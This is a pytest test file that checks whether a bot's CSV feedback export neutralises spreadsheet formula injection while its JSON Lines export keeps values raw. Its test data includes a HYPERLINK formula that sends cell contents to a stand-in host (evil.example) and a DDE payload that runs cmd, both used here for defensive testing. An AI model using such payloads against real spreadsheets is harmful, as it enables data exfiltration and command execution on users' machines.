"""The export is safe to open in a spreadsheet (OWASP CSV injection); JSON Lines stays raw."""

from __future__ import annotations

import csv
import json
from pathlib import Path

import pytest

from bot.feedback import AnswerRecord, FeedbackStore, write_feedback
from index.models import AskResult

FORMULAS = [
    '=HYPERLINK("https://evil.example/?"&A1,"click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
]


@pytest.mark.parametrize("question", FORMULAS)
def test_no_csv_cell_begins_with_a_formula_character(tmp_path: Path, question: str) -> None:
    store = FeedbackStore(tmp_path / "feedback.sqlite3")
    result = AskResult(question=question, answer=question, abstained=True, language="en", kind="abstained")
    store.save_answer(AnswerRecord.from_result("a1", result, context=None, user_id=1, guild_id=2, channel_id=3))
    store.record_vote("a1", 9, "down", guild_id=2, channel_id=3)
    rows = store.feedback()
    store.close()

    write_feedback(rows, tmp_path / "votes.csv")
    with (tmp_path / "votes.csv").open(encoding="utf-8", newline="") as handle:
        table = list(csv.reader(handle))
    for row in table:
        for cell in row:
            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), (cell, row)
    record = dict(zip(table[0], table[1], strict=True))
    assert record["question"] == "'" + question  # shown as text, nothing lost
    assert record["vote"] == "down" and record["user_id"] == "9"

    write_feedback(rows, tmp_path / "votes.jsonl")
    line = json.loads((tmp_path / "votes.jsonl").read_text(encoding="utf-8"))
    assert line["question"] == question and line["answer"] == question  # raw for programs
